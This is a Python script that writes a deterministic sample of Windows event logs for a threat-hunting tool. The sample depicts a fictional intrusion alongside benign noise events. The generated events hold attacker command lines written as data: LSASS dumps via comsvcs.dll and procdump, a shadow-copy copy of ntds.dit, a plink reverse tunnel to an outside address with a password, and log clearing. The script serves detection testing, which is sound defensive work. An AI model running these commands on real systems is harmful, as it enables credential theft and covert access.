#!/usr/bin/env python3
"""Writes samples/intrusion.jsonl: the embedded sample hunted by `vigie hunt` by default.

A fictional intrusion at an operator, 25 July 2026, in the EVTX-as-JSON shape (what the
evtx crate renders): password guessing against a VPN account, a foothold on the enterprise
management platform, reconnaissance, LSASS dump, remote service, privileged group change,
shadow-copy theft of ntds.dit, a tunnel out, log clearing; mixed with ordinary activity.
Deterministic: re-running it gives the same file.
"""
import json
import sys
from datetime import datetime, timedelta, timezone

SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "Security")
SCM = ("Service Control Manager", "System")
EVENTLOG = ("Microsoft-Windows-Eventlog", "System")

t0 = datetime(2026, 7, 25, 6, 0, 0, tzinfo=timezone.utc)
record = 0
out = []


def ev(minutes, provider, eid, computer, data):
    global record
    record += 1
    t = t0 + timedelta(minutes=minutes)
    out.append({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": provider[0]}},
            "EventID": eid,
            "EventRecordID": record,
            "Channel": provider[1],
            "Computer": computer,
            "TimeCreated": {"#attributes": {"SystemTime": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
        },
        "EventData": data,
    }})


def proc(minutes, computer, image, cmd, parent="C:\\Windows\\explorer.exe", user="ARMOR\\svc-emp"):
    ev(minutes, SYSMON, 1, computer, {
        "Image": image, "CommandLine": cmd, "ParentImage": parent, "User": user,
        "IntegrityLevel": "High", "Hashes": "SHA256=00", "CurrentDirectory": "C:\\Windows\\system32\\",
    })


EMP = "emp-app-01.corp.armorique.example"
DC = "dc-01.corp.armorique.example"
JUMP = "jump-01.adm.armorique.example"
VPN = "vpn-gw-01.dmz.armorique.example"

# Ordinary activity.
for i in range(6):
    proc(i * 3, EMP, "C:\\Program Files\\EMP\\emp-worker.exe", f"emp-worker.exe --tenant {1000 + i}",
         parent="C:\\Windows\\System32\\services.exe")
    ev(i * 3 + 1, SECURITY, 4624, DC, {"TargetUserName": f"user{i}", "LogonType": 3, "IpAddress": f"10.1.2.{i + 10}"})
# Password guessing against one VPN account: 7 failures in 6 minutes, then a success.
for i in range(7):
    ev(20 + i, SECURITY, 4625, VPN, {"TargetUserName": "j.martin", "LogonType": 3, "IpAddress": "203.0.113.45",
                                     "Status": "0xc000006d"})
ev(27, SECURITY, 4624, VPN, {"TargetUserName": "j.martin", "LogonType": 3, "IpAddress": "203.0.113.45"})
# Two failures for another account: below the threshold, must not correlate.
for i in range(2):
    ev(30 + i, SECURITY, 4625, VPN, {"TargetUserName": "a.durand", "LogonType": 3, "IpAddress": "10.9.9.9"})
# Reconnaissance from the enterprise management platform.
proc(40, EMP, "C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts")
proc(41, EMP, "C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain')
# An IT inventory script doing the same is filtered out by the rule.
proc(42, EMP, "C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain',
     parent="C:\\Program Files\\vigie-inventory\\vigie-inventory.exe")
# Credential theft.
proc(50, EMP, "C:\\Windows\\System32\\rundll32.exe",
     "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full (lsass)")
proc(52, EMP, "C:\\temp\\procdump64.exe", "procdump64.exe -accepteula /ma lsass.exe C:\\temp\\x.dmp")
# Remote execution onto the jump host, then the domain controller.
ev(60, SCM, 7045, JUMP, {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                         "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"})
ev(61, SCM, 7045, JUMP, {"ServiceName": "Windows Update Medic", "ImagePath": "C:\\Windows\\system32\\svchost.exe -k wusvcs",
                         "ServiceType": "user mode service", "StartType": "auto start", "AccountName": "LocalSystem"})
ev(70, SECURITY, 4728, DC, {"TargetUserName": "Domain Admins", "MemberName": "CN=svc-emp,OU=Service,DC=corp",
                            "SubjectUserName": "svc-emp"})
ev(71, SECURITY, 4728, DC, {"TargetUserName": "Print Operators", "MemberName": "CN=p.leroy,OU=Staff,DC=corp",
                            "SubjectUserName": "admin.it"})
proc(80, DC, "C:\\Windows\\System32\\cmd.exe",
     "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\temp\\n.dit",
     user="ARMOR\\svc-emp")
proc(90, JUMP, "C:\\Users\\Public\\plink.exe", "plink.exe -ssh -R 8443:10.20.0.5:443 ops@198.51.100.7 -pw hunter2")
proc(91, JUMP, "C:\\Windows\\System32\\PING.EXE", "ping -n 1 10.20.0.5")
ev(100, SECURITY, 1102, DC, {"SubjectUserName": "svc-emp", "SubjectDomainName": "ARMOR"})
ev(101, EVENTLOG, 104, JUMP, {"Channel": "System", "SubjectUserName": "svc-emp"})

out.sort(key=lambda e: e["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"])
dest = sys.argv[1] if len(sys.argv) > 1 else "samples/intrusion.jsonl"
with open(dest, "w") as f:
    for e in out:
        f.write(json.dumps(e, separators=(",", ":")) + "\n")
print(f"wrote {len(out)} events to {dest}")
